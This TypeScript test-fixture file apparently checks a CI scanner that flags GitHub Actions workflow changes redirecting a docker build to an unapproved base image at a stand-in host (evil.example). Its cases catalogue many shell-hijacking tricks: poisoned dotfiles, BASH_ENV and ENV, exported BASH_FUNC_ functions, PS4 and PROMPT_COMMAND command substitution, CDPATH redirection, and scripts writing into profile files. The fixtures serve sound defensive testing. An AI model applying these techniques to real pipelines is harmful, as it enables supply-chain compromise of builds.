import type { BuildChangeRow } from './build-changes.js';
import { RUNNER } from './runner-folders.js';

const EVIL = 'evil.example/x:1';
const FLOW = '.github/workflows/build.yml';
const BUILD = 'docker build --build-arg BASE .';
const CALL = `docker build --build-arg BASE=${EVIL} .`;
const EXPORT = `export BASE=${EVIL}\n`;
/** A function in the place of the program. */
const FUNCTION = `docker() { command docker "$@" --build-arg BASE=${EVIL}; }\n`;
const WORKSPACE = `\${{ github.workspace }}`;
const FORBIDDEN = [`Dockerfile:2 unapproved ${EVIL}`];

const FILES = { Dockerfile: 'ARG BASE=debian:trixie-slim\nFROM $BASE\n' };
const quote = (text: string): string => JSON.stringify(text);

interface StepRow {
  readonly run?: string;
  readonly env?: Readonly<Record<string, string>>;
  readonly shell?: string;
  /** Scripts of steps before it. */
  readonly before?: readonly string[];
  /** A warning says what is not known. */
  readonly isNoted?: true;
}

const flow = ({ run = BUILD, env = {}, shell, before = [] }: StepRow): string => {
  const given = Object.entries({ BASE: 'debian', ...env }).map(
    ([key, value]) => `${quote(key)}: ${quote(value)}`,
  );
  const steps = before.map((script) => `      - { run: ${quote(script)}, shell: bash }\n`).join('');
  const chosen = shell === undefined ? '' : `, shell: ${quote(shell)}`;
  return `on: push\nenv: { ${given.join(', ')} }\njobs:\n  build:\n    runs-on: ubuntu-latest\n    steps:\n${steps}      - { run: ${quote(run)}${chosen} }\n`;
};

const say = ({ run = BUILD, env = {}, shell = '', before = [] }: StepRow): string =>
  [...before, ...Object.entries(env).map(([name, value]) => `${name}=${value}`), shell, run]
    .filter((part) => part !== '')
    .join(' | ');

/** A file changes that the shell of a step reads, which is as it was. */
const fileRow = (
  step: StepRow,
  file: string,
  text: string,
  found: readonly string[] = FORBIDDEN,
): BuildChangeRow => ({
  name: `${found.length === 0 ? 'quiet' : 'found'} in ${file} before a script: ${say(step)} (${text.trim()})`,
  base: { ...FILES, [file]: '# nothing\n', [FLOW]: flow(step) },
  change: { [file]: text },
  found,
});

/** A workflow changes. */
const flowRow = (
  before: StepRow,
  after: StepRow,
  found: readonly string[] = FORBIDDEN,
  files: Readonly<Record<string, string>> = {},
): BuildChangeRow => ({
  name: `${found.length === 0 ? 'quiet' : 'found'} where a shell begins: ${say(after)}`,
  base: { ...FILES, ...files, [FLOW]: flow(before) },
  change: { [FLOW]: flow(after) },
  found,
  noted: after.isNoted === true ? [FLOW] : [],
});

const HOME = { HOME: WORKSPACE };
const AT_HOME: readonly (readonly [string, string])[] = [
  ['bash -l {0}', '.bash_profile'],
  ['bash -leo pipefail {0}', '.bash_login'],
  ['bash --login {0}', '.profile'],
  ['bash -ie {0}', '.bashrc'],
  ['sh -l {0}', '.profile'],
  ['ksh -i {0}', '.kshrc'],
  ['zsh {0}', '.zshenv'],
  ['zsh -l {0}', '.zprofile'],
  ['zsh -l {0}', '.zlogin'],
  ['zsh -i {0}', '.zshrc'],
];

/** Files of the repository that the shell of a step reads. */
const OWN: readonly BuildChangeRow[] = [
  ...AT_HOME.map(([shell, file]) => fileRow({ env: HOME, shell }, file, EXPORT)),
  ...AT_HOME.map(([shell, file]) =>
    fileRow({ run: 'docker build .', env: { HOME: './h' }, shell }, `h/${file}`, FUNCTION),
  ),
  fileRow({ env: { HOME: RUNNER.workspace }, shell: 'bash -l {0}' }, '.bash_profile', EXPORT),
  fileRow({ shell: 'env HOME=h bash -l {0}' }, 'h/.bash_profile', EXPORT),
  fileRow({ env: { ZDOTDIR: 'z' }, shell: 'zsh {0}' }, 'z/.zshenv', `true; ${EXPORT}`),
  fileRow({ env: { ENV: './env.sh' }, shell: 'sh -ie {0}' }, 'env.sh', EXPORT),
  fileRow({ env: { ENV: 'env.sh', POSIXLY_CORRECT: '1' }, shell: 'bash -i {0}' }, 'env.sh', EXPORT),
  fileRow({ env: { ...HOME, SSH_CLIENT: '1' }, shell: 'bash -c ". {0}"' }, '.bashrc', EXPORT),
  fileRow({ env: { BASH_ENV: 'env.sh' } }, 'env.sh', `if true; then ${EXPORT.trim()}; fi\n`),
  fileRow({ env: { BASH_ENV: '$DIR/env.sh', DIR: 'ci' } }, 'ci/env.sh', EXPORT),
  fileRow(
    { env: { XDG_CONFIG_HOME: 'c' }, shell: 'pwsh' },
    'c/powershell/profile.ps1',
    `$env:BASE="${EVIL}"\n`,
  ),
  fileRow(
    { env: HOME, shell: 'pwsh' },
    '.config/powershell/Microsoft.PowerShell_profile.ps1',
    `$env:BASE="${EVIL}"\n`,
  ),
  // what it takes from another file is not known
  fileRow({ env: HOME, shell: 'bash -l {0}' }, '.bash_profile', '. ./more\n', [
    `${FLOW}:7 unresolved`,
    'Dockerfile:2 unresolved',
  ]),
  // the home folder is the workspace
  fileRow({ env: HOME, shell: 'bash -l {0}' }, '.bash_profile', '. ~/more\n', [
    `${FLOW}:7 unresolved`,
    'Dockerfile:2 unresolved',
  ]),
  // one that reads none
  fileRow({ env: HOME }, '.bash_profile', EXPORT, []),
  fileRow({ env: HOME, shell: 'bash' }, '.bash_profile', EXPORT, []),
  fileRow({ env: HOME, shell: 'bash --noprofile -l {0}' }, '.bash_profile', EXPORT, []),
  fileRow({ env: HOME, shell: 'bash -l {0}' }, '.bashrc', EXPORT, []),
  fileRow({ env: HOME, shell: 'bash --norc -i {0}' }, '.bashrc', EXPORT, []),
  fileRow({ env: HOME, shell: 'zsh -f {0}' }, '.zshenv', EXPORT, []),
  fileRow({ env: { ENV: 'env.sh' }, shell: 'sh -e {0}' }, 'env.sh', EXPORT, []),
  fileRow(
    { env: HOME, shell: 'pwsh -NoProfile -Command ". {0}"' },
    '.config/powershell/profile.ps1',
    `$env:BASE="${EVIL}"\n`,
    [],
  ),
  fileRow({ env: { HOME: RUNNER.homeInContainers }, shell: 'bash -l {0}' }, '.bash_profile', EXPORT, []),
  fileRow({ shell: 'bash -el {0}' }, '.bash_profile', EXPORT, []),
  // one that changes nothing
  fileRow(
    { env: HOME, shell: 'bash -l {0}' },
    '.bash_profile',
    'export PATH="$HOME/bin:$PATH"\nif [ -f /etc/x ]; then\n  . /etc/x\nfi\nretry() { "$@" || "$@"; }\n',
    [],
  ),
];

/** The same of shells that a script starts, and of files that it names in its home folder. */
const INNER: readonly BuildChangeRow[] = [
  ...(
    [
      ['HOME=$PWD/h bash -lc "docker build ."', 'h/.bash_profile'],
      ['export HOME=$PWD/h\nbash -ic "docker build ."', 'h/.bashrc'],
      ['env HOME=h bash --login -c "docker build ."', 'h/.bash_profile'],
      ['export HOME=$GITHUB_WORKSPACE/h\nbash -l <<A\ndocker build .\nA', 'h/.profile'],
      ['HOME=h zsh -c "docker build ."', 'h/.zshenv'],
      ['ZDOTDIR=$PWD/h zsh -c "docker build ."', 'h/.zshenv'],
      ['ENV=h/env sh -ic "docker build ."', 'h/env'],
    ] as const
  ).map(([run, file]) => fileRow({ run }, file, FUNCTION)),
  fileRow({ run: 'HOME=$PWD/h bash -c "docker build ."' }, 'h/.bash_profile', FUNCTION, []),
  fileRow({ run: `. ~/v.env\n${BUILD}`, env: HOME }, 'v.env', EXPORT, ['Dockerfile:2 unresolved']),
  fileRow({ run: `. ~/v.env\n${BUILD}` }, 'v.env', EXPORT, []),
];

const LOGIN = { shell: 'bash -l {0}' };
const write = (script: string, step: StepRow = LOGIN, found: readonly string[] = FORBIDDEN): BuildChangeRow =>
  flowRow(step, { ...step, before: [script] }, found, { p: EXPORT, 'dots/.bash_profile': EXPORT });
const OPEN = [`${FLOW}:8 unresolved`, 'Dockerfile:2 unresolved'];

/** Files that scripts write, for the shells after them. */
const WRITTEN: readonly BuildChangeRow[] = [
  ...[
    `echo "${EXPORT.trim()}" >> ~/.bash_profile`,
    `echo "${EXPORT.trim()}" >> $HOME/.bashrc`,
    `printf '%s\\n' '${EXPORT.trim()}' | tee -a ${RUNNER.homeInContainers}/.profile`,
    `cat <<A >> ~/.bash_profile\n${EXPORT}A`,
    `echo "${EXPORT.trim()}" | sudo tee /etc/profile.d/x.sh`,
    `sudo sh -c "echo ${EXPORT.trim()} >> /etc/profile"`,
    'cp p ~/.bash_profile',
    'ln -sf $PWD/p $HOME/.profile',
    'sudo cp p /etc/profile.d/',
    'cp -r dots/. ~/',
    `exec >> ~/.bash_profile; echo "${EXPORT.trim()}"`,
    `exec 3>> ~/.bash_profile; echo "${EXPORT.trim()}" >&3`,
    `f() { echo "${EXPORT.trim()}"; }; f >> ~/.bash_profile`,
    `{ echo; echo "${EXPORT.trim()}"; } >> ~/.profile`,
    `if true; then echo "${EXPORT.trim()}"; fi >> ~/.bashrc`,
    `echo "${EXPORT.trim()}" >> ~/.bash""_profile`,
    `echo "${EXPORT.trim()}" >> ~/.bash\\_profile`,
    `echo "${EXPORT.trim()}" | tee -a ~/.p*file`,
    `echo "${EXPORT.trim()}" | tee -a ~/.bash_pro[f]ile`,
    'cp p ~/.bash_p*',
    'stow -t ~ dots',
    'stow -d . --target="$HOME" dots',
  ].map((script) => write(script)),
  ...[
    './x.sh > ~/.bash_profile',
    'exec > ~/.bash_profile; ./x.sh',
    'cd ~; patch -p0 < $GITHUB_WORKSPACE/p',
    'patch -d ~ -p1 < p',
    'cd && git apply $GITHUB_WORKSPACE/p',
    'curl -o ~/.profile $URL',
    `sed -i "1i ${EXPORT.trim()}" ~/.bash_profile`,
  ].map((script) => write(script, LOGIN, OPEN)),
  write(`echo "${EXPORT.trim()}" >> ~/.zshenv`, { shell: 'zsh {0}' }),
  write(`echo "${EXPORT.trim()}" >> ~/.bashrc`, { shell: 'bash -i {0}' }),
  write(`echo '${FUNCTION.trim()}' >> ~/.bashrc`, { run: 'bash -ic "docker build ."' }),
  write(`echo "${EXPORT.trim()}" | sudo tee /etc/profile.d/x.sh`, { run: `sudo -i ${BUILD}` }),
  write(`echo "BASE=${EVIL}" | sudo tee -a /etc/environment`, { run: `sudo ${BUILD}` }),
  // nothing that matters
  write("echo 'export PATH=$HOME/.x/bin:$PATH' >> ~/.bashrc", LOGIN, []),
  write('echo "export PATH=$HOME/.x/bin:$PATH" >> ~/.bash_profile', LOGIN, []),
  write('echo \'eval "$(pyenv init -)"\' >> ~/.bash_profile', LOGIN, []),
  write("echo '. ~/.nvm/nvm.sh' >> ~/.bash_profile", LOGIN, []),
  write('echo "PATH=$PATH:/x" | sudo tee -a /etc/environment', { run: `sudo ${BUILD}` }, []),
  // what no shell of the job reads
  write(`echo "${EXPORT.trim()}" >> ~/.bashrc`, { shell: 'bash -e {0}' }, []),
  write('./x.sh >> ~/.bash_profile', {}, []),
  write('exec > ~/build.log; ./x.sh', LOGIN, []),
  write('exec > >(tee ~/build.log); ./x.sh', LOGIN, []),
  write('f() { ./x.sh; }; f >> ~/x.txt', LOGIN, []),
  write('patch -p1 < p', LOGIN, []),
  write('cd; cd $GITHUB_WORKSPACE; git apply p', LOGIN, []),
  write('stow -t ~/bin dots', LOGIN, []),
  write('stow -t ~ other', LOGIN, []),
  write('./x.sh | tee ~/.n*', LOGIN, []),
];

const calling = (body: string): string => `() { ${body}; }`;
const PLAIN = { run: 'docker build .' };

/** Functions and texts that a shell takes from its environment. */
const CODE: readonly BuildChangeRow[] = [
  flowRow(PLAIN, { ...PLAIN, env: { 'BASH_FUNC_docker%%': calling(`command ${CALL}`) } }),
  flowRow(PLAIN, { ...PLAIN, env: { 'BASH_FUNC_docker%%': calling('x') } }, []),
  flowRow(PLAIN, { ...PLAIN, env: { 'BASH_FUNC_docker%%': `\${{ vars.F }}` } }, [`${FLOW}:7 unresolved`]),
  flowRow(PLAIN, { ...PLAIN, before: [`echo 'BASH_FUNC_docker%%=${calling(CALL)}' >> $GITHUB_ENV`] }, [
    `${FLOW}:8 unresolved`,
  ]),
  ...['make', 'echo a', '[ a ]', 'export A=b'].map((run) =>
    flowRow({ run }, { run, env: { [`BASH_FUNC_${run.split(' ')[0]}%%`]: calling(CALL) } }),
  ),
  flowRow(PLAIN, { run: `env 'BASH_FUNC_x%%=${calling(CALL)}' bash -c x` }),
  // other shells have no such functions
  ...['dash {0}', 'zsh {0}'].map((shell) =>
    flowRow({ ...PLAIN, shell }, { ...PLAIN, shell, env: { 'BASH_FUNC_docker%%': calling(CALL) } }, []),
  ),
  flowRow({ run: 'set -x\ntrue' }, { run: 'set -x\ntrue', env: { PS4: `$(${CALL} >&2)` } }),
  flowRow({ run: 'bash -xc true' }, { run: 'bash -xc true', env: { PS4: `$(${CALL} >&2)` } }),
  flowRow(PLAIN, { ...PLAIN, env: { PS4: `+ \${BASH_SOURCE}:\${LINENO}: ` } }, []),
  flowRow({ run: 'true' }, { run: 'true', env: { BASH_ENV: `$(${CALL} >&2)` } }),
  flowRow(
    { run: 'bash -is <<< true' },
    { run: 'bash -is <<< true', env: { PROMPT_COMMAND: CALL }, isNoted: true },
  ),
  flowRow(
    { run: `X=${EVIL}\ndocker build --build-arg X .` },
    { run: `BASE=${EVIL}\n${BUILD}`, env: { BASE: '', SHELLOPTS: 'allexport' } },
  ),
  flowRow(PLAIN, { ...PLAIN, env: { SHELLOPTS: 'errexit:pipefail', POSIXLY_CORRECT: '1' } }, []),
  flowRow(PLAIN, { ...PLAIN, env: { SHELLOPTS: 'keyword' } }, [`${FLOW}:7 unresolved`]),
];

const FOLDERS = { 'api/odd': 'FROM debian\n', 'other/api/odd': `FROM ${EVIL}\n` };
const ENTERED = { run: 'cd api\ndocker build -f odd .' };
const ODD = [`other/api/odd:1 unapproved ${EVIL}`];
const enter = (step: StepRow, found: readonly string[] = ODD): BuildChangeRow =>
  flowRow(ENTERED, step, found, FOLDERS);

/** Where `cd` finds a folder. */
const CDPATH: readonly BuildChangeRow[] = [
  ...['other', './other', `${WORKSPACE}/other`, 'none:other'].map((path) =>
    enter({ ...ENTERED, env: { CDPATH: path } }),
  ),
  enter({ ...ENTERED, env: { CDPATH: 'other' }, shell: 'sh' }),
  enter({ run: 'cd api && docker build -f odd .', env: { CDPATH: 'other' } }),
  enter({ run: 'pushd api\ndocker build -f odd .', env: { CDPATH: 'other' } }),
  enter({ run: 'export CDPATH=other\ncd api\ndocker build -f odd .' }),
  enter({ run: 'CDPATH=other cd api\ndocker build -f odd .' }),
  enter({ ...ENTERED, env: { CDPATH: `\${{ vars.X }}` }, isNoted: true }),
  enter({ ...ENTERED, before: ['echo CDPATH=other >> $GITHUB_ENV'], isNoted: true }),
  ...['', '.:other', ':other', 'none'].map((path) => enter({ ...ENTERED, env: { CDPATH: path } }, [])),
  enter({ run: 'cd ./api\ndocker build -f odd .', env: { CDPATH: 'other' } }, []),
  enter({ run: 'CDPATH= cd api\ndocker build -f odd .', env: { CDPATH: 'other' } }, []),
  enter({ ...ENTERED, env: { CDPATH: 'other' }, shell: 'zsh {0}' }, []),
];

/** What a shell takes from its environment and its home folder before its script, and while it runs. */
export const START_CHANGES: readonly BuildChangeRow[] = [...OWN, ...INNER, ...WRITTEN, ...CODE, ...CDPATH];
